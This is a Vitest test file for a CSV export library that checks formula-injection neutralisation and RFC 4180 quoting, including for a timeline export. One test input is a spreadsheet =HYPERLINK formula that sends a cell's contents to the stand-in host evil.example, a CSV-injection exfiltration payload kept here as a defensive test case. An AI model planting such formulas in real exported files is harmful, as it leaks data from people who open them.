import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvRecord } from '../../../src/lib/report/formatCsv.ts';
import { timelineCsv } from '../../../src/lib/report/timelineCsv.ts';

describe('formatCsv', () => {
  it('neutralises formula cells: = + - @ TAB CR', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(['+1', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(["'+1", "'-2+3", "'@SUM(A1)", "'\tx", `"'\rx"`]);
  });

  it('writes numbers as they are, null as empty, quotes what RFC 4180 needs', () => {
    expect(csvLine([-5, 1.5, null, undefined, 'a,b', 'say "hi"', ' padded', 'plain'])).toBe('-5,1.5,,,"a,b","say ""hi"""," padded",plain');
    expect(csvRecord(['x'])).toBe('x\r\n');
  });

  it('guards the timeline export too (one writer for every CSV)', () => {
    const csv = timelineCsv([
      { timeUtc: '2024-05-01T00:00:00Z', timeLocal: null, type: 'log', source: 's', description: '=HYPERLINK("http://x")', account: null, ip: null, refMessage: null, refSession: null },
    ] as never);
    expect(csv).toContain(`"'=HYPERLINK(""http://x"")"`);
  });
});
